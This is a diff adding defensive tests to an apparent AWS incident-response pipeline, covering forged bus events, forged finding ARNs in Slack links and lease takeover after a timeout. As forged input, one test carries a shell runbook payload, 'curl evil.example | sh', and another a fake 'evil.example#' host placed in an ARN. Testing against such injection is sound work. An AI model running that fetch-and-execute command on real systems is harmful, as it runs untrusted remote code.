@@ -11,10 +11,13 @@ both incident backends.
 from __future__ import annotations
 
 import json
+import re
+import threading
+import time
 from typing import Any
 
 from bench import FIXTURES, Bench, Incidents, im_record
-from runtime_api import Function, Result
+from runtime_api import Function, FunctionError, Result
 
 DOWN = "cloudwatch-alarm-vpn-tunnel-down"
 IP_DOWN = "cloudwatch-alarm-vpn-tunnel-ip-down"
@@ -222,4 +225,101 @@ def test_a_guardduty_finding_and_its_security_hub_copy_open_one_incident(
     assert (own["action"], own["rule"]) == ("opened", "guardduty-high"), own
     assert copy["action"] == "ignored", copy
     assert "16afba5c5c43e07c9e3e5e2e544e95df" in copy["reason"], copy["reason"]
+    assert len(incidents.all()) == 1
+
+
+def test_a_forged_enriched_event_starts_only_what_the_rules_name(
+    bench: Bench, triage: Function, enrich: Function, runbook: Function, vpn: str
+) -> None:
+    """Anyone who can put events on the bus could name any document: runbook takes the runbook
+    and its parameters from its own rules, never from the event."""
+    answer_of(triage.invoke(bench.alarm_event(DOWN, vpn)))
+    [opened] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Opened"]
+    assert action(enrich.invoke(opened)) == "enriched"
+    [enriched] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Enriched"]
+    shell = {"document": "AWS-RunShellScript", "parameters": {"commands": "curl evil.example | sh"}}
+
+    # A rule without a runbook, and a rule that is not deployed: nothing starts.
+    for rule in ("cloudwatch-alarm", "made-up-rule"):
+        forged = json.loads(json.dumps(enriched))
+        forged["id"] = f"forged-{rule}"
+        forged["detail"]["incident"]["rule"] = rule
+        forged["detail"]["incident"]["runbook"] = shell
+        skipped = answer_of(runbook.invoke(forged))
+        assert skipped["action"] == "skipped", skipped
+    assert bench.emu.automations() == []
+
+    # The VPN rule: its own runbook, with the parameters runbook derives.
+    forged = json.loads(json.dumps(enriched))
+    forged["detail"]["incident"]["runbook"] = shell
+    started = answer_of(runbook.invoke(forged))
+    assert started["action"] == "started", started
+    [execution] = bench.emu.automations()
+    assert execution["DocumentName"] == "AWSSupport-TroubleshootVPN", execution
+    assert "commands" not in execution.get("Parameters", {}), execution
+
+
+def test_a_foreign_resource_in_a_finding_links_only_to_the_aws_console(
+    bench: Bench, triage: Function, enrich: Function, notify: Function
+) -> None:
+    """A Security Hub finding whose resource id is a forged ARN with a host in its region: every
+    link the responder posts and writes still goes to an AWS console host."""
+    text = (FIXTURES / "securityhub-finding-critical.json").read_text()
+    event = json.loads(text.replace("111122223333", bench.account))
+    finding = event["detail"]["findings"][0]
+    finding["Resources"][0]["Id"] = "arn:aws:ec2:evil.example#:1:instance/i-1"
+    finding["Region"] = "evil.example#"
+    assert action(triage.invoke(event)) == "opened"
+    [opened] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Opened"]
+    enrich.invoke(opened)
+    for published in bench.bus_events():
+        notify.invoke(published)
+    messages = bench.slack_messages(wait=2.0, count=1)
+    assert messages, "nothing posted"
+    hosts = set()
+    for message in messages:
+        for url in re.findall(r"https?://[^\s)>\]\"|]+", json.dumps(message.content)):
+            hosts.add(url.split("/")[2])
+    assert hosts, messages
+    allowed = ("console.aws.amazon.com", "console.amazonaws.cn", "console.amazonaws-us-gov.com")
+    assert all(h.endswith(allowed) for h in hosts), hosts
+    assert not any("evil" in h for h in hosts), hosts
+
+
+def test_a_take_over_of_a_timed_out_opening_opens_the_same_incident(
+    bench: Bench, function: Any, vpn: str, incidents: Incidents, backend: str
+) -> None:
+    """Two triage processes. The first claims the VPN's key and starts opening, but the backend
+    answers slowly and the invocation times out (Lambda ends the process); the backend still
+    creates the incident. Once its lease ran out, the second alarm's invocation takes the key
+    over — with the claim's client token, so it finishes the same opening: one incident (a
+    token of its own would open a second). Slow: it waits out the 30 s lease."""
+    operation = "StartIncident" if backend == "incident-manager" else "CreateOpsItem"
+    first, second, retry = (function("triage", env=bench.triage_env(backend)) for _ in range(3))
+    bench.emu.slow(operation, 4.0)
+    timed_out: list[BaseException] = []
+
+    def deliver() -> None:
+        try:
+            first.invoke(bench.alarm_event(DOWN, vpn), timeout=1)
+        except FunctionError as e:
+            timed_out.append(e)
+
+    started = time.monotonic()
+    thread = threading.Thread(target=deliver)
+    thread.start()
+    thread.join(timeout=30)
+    assert timed_out, "the first invocation should have timed out"
+    time.sleep(5.0)  # the slow opening completes in the backend, unconfirmed
+    bench.emu.slow(operation, 0)
+    assert len(incidents.all()) == 1
+    # A claim's lease is at least 30 s (shell::once::MIN_LEASE): wait it out.
+    time.sleep(max(0.0, started + 32.0 - time.monotonic()))
+    taken = answer_of(second.invoke(bench.alarm_event(IP_DOWN, vpn), timeout=30))
+    assert taken["action"] == "opened", taken
+    [record] = incidents.all()
+    assert incidents.id(record) == taken["incident"]
+    # Lambda's retry of the first alarm (another environment) joins it.
+    again = answer_of(retry.invoke(bench.alarm_event(DOWN, vpn)))
+    assert (again["action"], again["incident"]) == ("joined", taken["incident"]), again
     assert len(incidents.all()) == 1
